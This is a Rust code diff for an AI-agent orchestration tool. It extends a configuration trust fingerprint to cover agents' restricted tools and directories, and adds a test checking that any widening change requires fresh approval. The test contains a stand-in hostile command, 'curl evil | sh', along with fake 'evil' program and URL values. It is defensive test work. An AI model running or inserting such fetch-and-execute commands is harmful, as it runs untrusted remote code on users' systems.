@@ -6,7 +6,8 @@ use orchestron_domain::Config;
 /// The setting that keeps what was accepted.
 pub const KEY: &str = "trusted-commands";
 
-/// Everything in the configuration that runs something or sends something somewhere, one per line, in a fixed order.
+/// Everything in the configuration that runs something, sends something somewhere or says what an agent may do without asking, one
+/// per line, in a fixed order.
 #[must_use]
 pub fn commands(config: &Config) -> String {
     let gates = config
@@ -19,12 +20,14 @@ pub fn commands(config: &Config) -> String {
         .filter(|agent| agent.cli.is_some())
         .map(|agent| {
             format!(
-                "agent {}: {} {} base_url={} allowed={:?} account={}",
+                "agent {}: {} {} base_url={} allowed={:?} restricted={:?} directories={:?} account={}",
                 agent.name,
                 agent.cli.as_deref().unwrap_or(""),
                 agent.program.as_deref().unwrap_or(""),
                 agent.base_url.as_deref().unwrap_or(""),
                 agent.tools_allowed,
+                agent.tools_restricted,
+                agent.directories,
                 agent.account,
             )
         });
@@ -44,4 +47,65 @@ pub fn commands(config: &Config) -> String {
 pub fn is_trusted(config: &Config, accepted: Option<&str>) -> bool {
     let wanted = commands(config);
     wanted.is_empty() || accepted == Some(wanted.as_str())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::{commands, is_trusted};
+    use orchestron_domain::{Agent, Config, Gate};
+
+    fn config() -> Config {
+        let name: orchestron_domain::AgentName = "impl".parse().unwrap();
+        let agent = Agent {
+            name: name.clone(),
+            cli: Some("claude".into()),
+            program: None,
+            model: None,
+            persona: None,
+            prompt_file: None,
+            capabilities: vec![],
+            tools_allowed: vec![],
+            tools_restricted: vec!["Bash(curl:*)".into()],
+            directories: vec!["src".into()],
+            timeout_s: 1,
+            silence_s: 1,
+            max_turns: None,
+            budget: None,
+            base_url: None,
+            account: "anthropic".into(),
+        };
+        let gate = Gate {
+            name: "test".into(),
+            run: "npm test".into(),
+            timeout_s: 1,
+        };
+        Config {
+            gates: vec![gate],
+            agents: [(name, agent)].into(),
+            ..Config::default()
+        }
+    }
+
+    #[test]
+    fn whatever_widens_what_is_run_or_allowed_has_to_be_accepted_anew() {
+        let accepted = commands(&config());
+        assert!(is_trusted(&config(), Some(&accepted)));
+        assert!(!is_trusted(&config(), None));
+        let changes: [fn(&mut Config, &mut Agent); 7] = [
+            |config, _| config.gates[0].run = "curl evil | sh".into(),
+            |config, _| config.worktrees = Some("/tmp".into()),
+            |_, agent| agent.program = Some("./evil".into()),
+            |_, agent| agent.base_url = Some("http://evil".into()),
+            |_, agent| agent.tools_allowed = vec!["Bash".into()],
+            |_, agent| agent.tools_restricted.clear(),
+            |_, agent| agent.directories.clear(),
+        ];
+        for (at, change) in changes.into_iter().enumerate() {
+            let mut changed = config();
+            let mut agent = changed.agents.values().next().unwrap().clone();
+            change(&mut changed, &mut agent);
+            changed.agents.insert(agent.name.clone(), agent);
+            assert!(!is_trusted(&changed, Some(&accepted)), "change {at}");
+        }
+    }
 }
